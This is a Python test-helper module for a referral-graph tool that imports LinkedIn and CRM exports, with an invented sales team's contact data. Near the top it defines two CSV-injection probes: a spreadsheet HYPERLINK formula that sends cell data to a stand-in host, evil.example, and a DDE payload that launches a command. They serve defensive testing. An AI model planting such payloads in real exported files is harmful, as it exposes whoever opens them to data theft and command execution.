"""Helpers the tests share (fixtures live in conftest.py)."""

from __future__ import annotations

import dataclasses
import shutil
import sqlite3
from pathlib import Path

import numpy as np

from graphwarm.engine.graph import ReferralGraph
from graphwarm.workspace.imports import import_accounts, import_linkedin, import_people, import_ties
from graphwarm.workspace.store import Workspace

FIXTURES = Path(__file__).parent / "fixtures"
LINKEDIN = FIXTURES / "linkedin"
CRM = FIXTURES / "crm"
PLANS = FIXTURES / "plans"

# CSV injection probes (tests/fixtures/crm/formula_*.csv): a name a spreadsheet would run as a
# formula, and a company named as a DDE command.
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'
DDE = "+cmd|' /C calc'!A0"


def linkedin_fixture(name: str) -> bytes:
    """The bytes of one file in tests/fixtures/linkedin."""
    return (LINKEDIN / name).read_bytes()


def dump(db: Path | str) -> dict[str, list[tuple]]:
    """Every row of every table, sorted: equal dumps mean equal workspace content."""
    conn = sqlite3.connect(db)
    try:
        tables = [
            r[0]
            for r in conn.execute(
                "SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%'"
                " ORDER BY name"
            )
        ]
        out = {t: sorted(conn.execute(f"SELECT * FROM {t}"), key=repr) for t in tables}
        out["_user_version"] = [conn.execute("PRAGMA user_version").fetchone()]
        return out
    finally:
        conn.close()


def same_graph(a: ReferralGraph, b: ReferralGraph) -> None:
    """Every array and list of two graphs is identical (dtype and values, NaN included)."""
    for f in dataclasses.fields(ReferralGraph):
        if f.name in ("settings", "signals", "conn", "_cache"):
            continue
        x, y = getattr(a, f.name), getattr(b, f.name)
        if x is None or y is None:
            assert x is None and y is None, f.name
        elif isinstance(x, np.ndarray):
            assert x.dtype == y.dtype, f.name
            assert np.array_equal(x, y, equal_nan=x.dtype.kind == "f"), f.name
        else:
            assert list(x) == list(y), f.name


def db_bytes(db: Path) -> bytes:
    """The workspace file and its WAL/SHM companions, as one byte string."""
    return b"".join(
        Path(f"{db}{suffix}").read_bytes()
        for suffix in ("", "-wal", "-shm")
        if Path(f"{db}{suffix}").exists()
    )


def build_team(directory: Path, toml: str = 'as_of = "2026-11-01"\n') -> Path:
    """The plans team (tests/fixtures/plans) in the workspace ``directory/w.db``, with
    ``graphwarm.toml`` beside it."""
    directory.mkdir(parents=True, exist_ok=True)
    export = directory / "lina"
    export.mkdir()
    for name in ("Connections.csv", "Profile.csv"):
        shutil.copy(PLANS / name, export / name)
    (directory / "graphwarm.toml").write_text(toml, encoding="utf-8")
    db = directory / "w.db"
    with Workspace(db) as ws:
        import_linkedin(ws, [export])
        import_accounts(ws, PLANS / "accounts.csv")
        import_people(ws, PLANS / "buyers.csv", target=True)
        import_ties(ws, PLANS / "ties.csv")
    return db


def add_formula_people(ws: Workspace) -> None:
    """A target account named :data:`DDE` with a buyer named :data:`FORMULA` whom Per Moberg
    (of the plans team and the samples) knows."""
    import_accounts(ws, CRM / "formula_accounts.csv")
    import_people(ws, CRM / "formula_people.csv", target=True)
    import_ties(ws, CRM / "formula_ties.csv")


# -- an invented team's exports, written in the test ----------------------------------------------

Contact = tuple[str, str, str, str, str]
"""One LinkedIn connection: ``(full name, profile slug, company, position, connected on)``."""


def profile_csv(name: str, headline: str) -> str:
    """A LinkedIn Profile.csv naming the member."""
    first, last = name.split(" ", 1)
    return (
        "First Name,Last Name,Maiden Name,Address,Birth Date,Headline,Summary,Industry,Zip Code,"
        "Geo Location,Twitter Handles,Websites,Instant Messengers\n"
        f"{first},{last},,,,{headline},,,,,,,\n"
    )


def connections_csv(contacts: list[Contact]) -> str:
    """A LinkedIn Connections.csv with the notes LinkedIn writes above the header."""
    lines = [
        "Notes:",
        '"When exporting your connection data, you may notice that some of the email addresses'
        ' are missing."',
        "",
        "First Name,Last Name,URL,Email Address,Company,Position,Connected On",
    ]
    for name, slug, company, position, connected in contacts:
        first, last = name.split(" ", 1)
        lines.append(
            f"{first},{last},https://www.linkedin.com/in/{slug},,{company},{position},{connected}"
        )
    return "\n".join(lines) + "\n"


def messages_csv(member: tuple[str, str], messages: list[tuple[str, str, str, bool]]) -> str:
    """A LinkedIn messages.csv: one message per ``(contact name, slug, YYYY-MM-DD, sent by
    the member)``; the content is a marker that must never be stored."""
    url = "https://www.linkedin.com/in/"
    lines = [
        "CONVERSATION ID,CONVERSATION TITLE,FROM,SENDER PROFILE URL,TO,RECIPIENT PROFILE URLS,"
        "DATE,SUBJECT,CONTENT,FOLDER"
    ]
    for n, (name, slug, day, sent) in enumerate(messages):
        ends = [(member[0], url + member[1]), (name, url + slug)]
        (who, who_url), (to, to_url) = ends if sent else ends[::-1]
        lines.append(
            f"c{slug},,{who},{who_url},{to},{to_url},{day} 09:{n % 60:02d}:00 UTC,,"
            f"SECRETCONTENT-{n},INBOX"
        )
    return "\n".join(lines) + "\n"


# The weekly team (fixtures weekly_export and weekly_team in conftest.py): members Lina and Olle
# of Solvik Data AB; target accounts Nordmark Energi AB and Vester Logistik AS, with the named
# buyers Eva Strand and Per Falk.
LINA = ("Lina Ahl", "lina-ahl")
OLLE = ("Olle Berg", "olle-berg")
HEADLINE = "Account Executive at Solvik Data AB"

ANDERS: Contact = ("Anders Holm", "anders-holm", "Kustbanken AB", "Controller", "03 Mar 2024")
MAJA: Contact = ("Maja Lind", "maja-lind", "Nordmark Energi AB", "Inköpare", "10 Jan 2023")
JONAS: Contact = ("Jonas Ek", "jonas-ek", "Vester Logistik AS", "Driftschef", "05 May 2022")
SARA: Contact = ("Sara Nyström", "sara-nystrom", "Kustbanken AB", "Säljare", "01 Feb 2021")
PER: Contact = ("Per Falk", "per-falk", "Vester Logistik AS", "CFO", "12 Dec 2020")
TOVE: Contact = ("Tove Sand", "tove-sand", "Kustbanken AB", "Analytiker", "20 Nov 2026")
# Week 2: Anders moved into a target account; Sara is no longer a connection; Tove is new.
ANDERS_MOVED: Contact = (*ANDERS[:2], "Nordmark Energi AB", "Controller", ANDERS[4])

WEEK1 = [ANDERS, MAJA, JONAS, SARA]
WEEK2 = [TOVE, ANDERS_MOVED, MAJA, JONAS]

ACCOUNTS = (
    "Company name,Company Domain Name\n"
    "Nordmark Energi AB,nordmark.se\n"
    "Vester Logistik AS,vester.no\n"
)
BUYERS = (
    "Name,Company,Job Title\nEva Strand,Nordmark Energi AB,CFO\nPer Falk,Vester Logistik AS,CFO\n"
)
